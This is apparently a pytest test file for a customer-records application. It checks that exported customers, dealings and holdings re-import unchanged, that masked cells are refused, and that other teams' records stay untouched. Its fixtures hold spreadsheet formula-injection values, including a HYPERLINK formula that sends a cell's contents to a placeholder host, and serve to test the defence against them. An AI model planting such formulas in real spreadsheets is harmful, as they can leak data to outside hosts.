"""What is exported comes back as it was: taken in again, nothing is made and nothing changes (trust.md rows 2, 3, S10)."""

import datetime as dt

import pytest

from guanxi.identity.models import Staff
from guanxi.project.exports import export
from guanxi.record.customers.models import Customer
from guanxi.record.customers.services import (
    NewCustomer,
    assign_customers,
    delete_customers,
    merge_customers,
    register_customers,
)
from guanxi.record.dealings.models import Dealing
from guanxi.record.holdings.models import Holding
from tests.record.imports.tables import record_rows
from tests.record.imports.test_dealings import counts, problems
from tests.stories.scene import SYSTEM

FORMULAS = [
    '=HYPERLINK("http://x/?d="&A1,"go")',
    "\t1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "@SUM(1)",
    "-王",
    "+李",
    "'=1",
]

PEOPLE = [
    NewCustomer(name="王伟", reference="K1", phone=("13800138000", "010-12345678"), email=("a@b.cn", "c@d.cn")),
    NewCustomer(name="王伟"),  # nothing but a name
    NewCustomer(name="王伟", birthday="1990-01-02"),
    NewCustomer(name="李娜", phone="13900139000", city="上海", address="南京路 1 号", gender="女", owner="lin"),
    NewCustomer(name="李娜", phone="+44 20 7946 0958", language="en"),
    NewCustomer(name="某某公司", kind="企业", plate="沪A12345", policy_number="P-1001", account="6222020099990000"),
    NewCustomer(name="张三", id_number="11010519491231002X", phone="13800138000 转 12", company="某厂"),
    *(NewCustomer(name=text, phone=f"1370000{n:04}", company=text) for n, text in enumerate(FORMULAS)),
    *(NewCustomer(name=name) for name in ("Null", "true", "O'Brien", "张", "𠮷", "شركة", "0012")),
]


def exported(kind, tmp_path, ending=".csv"):
    file = tmp_path / f"{kind}{ending}"
    export(kind, file, by=SYSTEM)
    return file


@pytest.fixture
def people(scene):
    answers = register_customers(PEOPLE, by=SYSTEM, source="test")
    assert [answer.problem for answer in answers if answer.problem] == []
    return [answer.id for answer in answers]


@pytest.mark.parametrize("ending", [".csv", ".xlsx", ".parquet"])
def test_customers_come_back_unchanged(take, people, tmp_path, ending):
    before = record_rows()
    report = take("customers", exported("customers", tmp_path, ending))
    assert counts(report) == (len(PEOPLE), 0, 0, len(PEOPLE), 0, 0)
    assert record_rows() == before


def test_exported_customers_come_back_when_they_were_changed_since(take, people, tmp_path):
    """A file that somebody worked on: the code says who is meant, whatever else was changed."""
    file = exported("customers", tmp_path)
    text = file.read_text().replace('"王伟"', '"王大伟"').replace('"上海"', '"杭州"')
    report = take("customers", text)
    assert counts(report) == (len(PEOPLE), 0, 4, len(PEOPLE) - 4, 0, 0)
    assert Customer.objects.filter(name="王大伟").count() == 3
    assert Customer.objects.get(name="李娜", language="").city.name == "杭州"
    assert counts(take("customers", text)) == (len(PEOPLE), 0, 0, len(PEOPLE), 0, 0)


def test_a_merged_customer_comes_back_as_the_winner_and_a_deleted_one_anew(take, people, tmp_path):
    file = exported("customers", tmp_path)
    winner, loser, deleted = people[3], people[4], people[1]
    merge_customers(winner, loser, by=SYSTEM)
    delete_customers([deleted], by=SYSTEM)
    before = Customer.objects.filter(gone=0).count()
    report = take("customers", file)
    assert (report.counts.created, report.counts.failed) == (1, 0)
    assert Customer.objects.filter(gone=0).count() == before + 1
    assert Customer.objects.filter(pk=loser, gone=0).count() == 0


def test_customers_of_colleagues_who_left_or_share_a_name_come_back(take, scene, people, tmp_path):
    assign_customers(people[:4], owner_id=scene.staff["lin"].pk, by=SYSTEM)
    Staff.objects.filter(pk=scene.staff["mo"].pk).update(name=scene.staff["lin"].name)
    assert counts(take("customers", exported("customers", tmp_path)))[1:] == (0, 0, len(PEOPLE), 0, 0)
    Staff.objects.filter(pk=scene.staff["lin"].pk).update(left_on=dt.date(2026, 1, 1))
    Staff.objects.filter(pk=scene.staff["mo"].pk).update(name="别人")
    assert counts(take("customers", exported("customers", tmp_path)))[1:] == (0, 0, len(PEOPLE), 0, 0)


def test_a_code_of_a_foreign_file_names_nobody_and_is_not_taken_over(take, people):
    code = Customer.objects.get(pk=people[0]).code
    report = take("customers", "code,name,phone\nzzzzzzzzzzzz,赵六,13600000001\n17,钱七,13600000002\n")
    assert counts(report) == (2, 2, 0, 0, 0, 0)
    assert not Customer.objects.filter(code__in=["zzzzzzzzzzzz", "17"]).exists()
    mixed = take("customers", f"code,reference,name\n{code},K9,王伟\n", name="mixed.csv")
    assert [row[2] for row in problems(mixed)] == ["customers.other_number"]


def test_a_code_of_another_team_is_not_changed(take, scene, people, tmp_path):
    """Nor made a second time."""
    far = scene.customer("远", owner="xu")
    report = take("customers", f"code,name,phone\n{far.code},近,13600000001\n", by=scene.person("gao"))
    assert [row[2] for row in problems(report)] == ["customers.known_elsewhere"]
    far.refresh_from_db()
    assert (far.name, Customer.objects.filter(name="近").count()) == ("远", 0)


@pytest.mark.parametrize("cell", ["138****8000", "z***@example.com", "****1234", "京A***45"])
@pytest.mark.parametrize("field", ["phone", "email", "account", "policy_number", "plate"])
def test_masked_cells_of_an_export_are_refused(take, field, cell):
    report = take("customers", f"name,{field}\n王伟,{cell}\n")
    assert counts(report) == (1, 0, 0, 0, 0, 1)
    assert problems(report)[0][1] == field


def test_a_masked_name_renames_nobody(take, people):
    customer = Customer.objects.get(pk=people[0])
    report = take("customers", f"customer,code,name,city\nK1,{customer.code},王*,上海\n")
    assert problems(report)[0][1:3] == ("name", "customers.masked")
    customer.refresh_from_db()
    assert customer.name == "王伟"


LINES = (
    "reference,customer,date,amount,quantity,unit_price,product,channel,category,price_tier,order\n"
    "T1,K1,2024-01-05 10:30,10.005,,,P1,刷卡,=1+1,3,O1\n"
    "T2,K1,2024-01-06,,3,0.105,P2,,@SUM,,\n"
    "T3,,2024-01-07,-5,,,,,,,\n"
    "T4,K2,2024-01-07,-5,-1,5,,,,,\n"
    '"=T5",K2,2024-01-07,0,,,,,,,\n'
)


@pytest.mark.parametrize("ending", [".csv", ".xlsx", ".parquet"])
def test_dealings_with_references_come_back_unchanged(take, tmp_path, ending):
    take("dealings", LINES, create_customers=True, currency="GBP")
    before = record_rows()
    file = exported("dealings", tmp_path, ending)
    report = take("dealings", file)
    assert counts(report) == (4, 0, 0, 4, 0, 0)
    assert record_rows() == before


def test_dealings_of_customers_without_a_reference_find_them_by_code(take, people, tmp_path):
    """No customer is made from a code, and no dealing lands with somebody else."""
    codes = dict(Customer.objects.filter(pk__in=people[:3]).values_list("pk", "code"))
    text = "reference,customer,date,amount\n" + "".join(f"T{pk},{code},2024-01-05,5\n" for pk, code in codes.items())
    report = take("dealings", text, create_customers=True)
    assert counts(report) == (3, 3, 0, 0, 0, 0)
    assert set(Dealing.objects.values_list("customer_id", flat=True)) == set(codes)
    assert counts(take("dealings", exported("dealings", tmp_path), create_customers=True)) == (3, 0, 0, 3, 0, 0)
    assert counts(take("holdings", f"reference,customer\nH1,{codes[people[1]]}\n", create_customers=True))[1] == 1
    assert Holding.objects.get().customer_id == people[1]
    contacts = f"customer,at,channel\n{codes[people[2]]},2024-01-05,call\n"
    assert counts(take("conversations", contacts, create_customers=True))[1] == 1
    assert Customer.objects.count() == len(people)


def test_a_code_of_another_team_is_not_found_and_nobody_is_made_of_it(take, scene, people):
    from dataclasses import replace

    far = scene.customer("远", owner="xu")
    leader = scene.person("gao")
    leader = replace(leader, permissions=leader.permissions | {"dealings.edit"})
    report = take("dealings", f"customer,date,amount\n{far.code},2024-01-05,5\n", by=leader, create_customers=True)
    assert report.counts.reasons == {"customers.not_found": 1}
    assert not Dealing.objects.exists()
    assert not Customer.objects.filter(reference=far.code).exists()
